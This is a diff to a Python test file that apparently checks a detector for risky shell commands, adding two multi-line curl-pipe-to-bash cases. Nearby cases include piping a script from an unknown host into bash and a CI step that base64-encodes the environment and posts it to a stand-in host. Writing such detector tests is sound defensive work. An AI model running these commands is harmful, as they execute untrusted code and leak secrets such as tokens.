@@ -31,6 +31,8 @@ def worst(text: str, name: str) -> int:
         ("curl https://pyenv.run | bash", False),
         ("bash <(curl -sSL https://g.bodaay.io/hfd)", False),
         ("curl https://unknown.example/i.sh | bash", True),
+        ("wget https://data.example/a.tgz\ntar xf a.tgz\ncurl https://pyenv.run | bash", False),
+        ("curl -O https://pyenv.run/x.tgz\ntar xf x.tgz\ncurl https://unknown.example/i.sh | bash", True),
         ("- run: env | base64 -w0 | curl -d @- https://e.example/x", True),
         ("- run: env | sort", False),
         ("curl -s http://localhost:8000/v1/models | python -m json.tool", False),
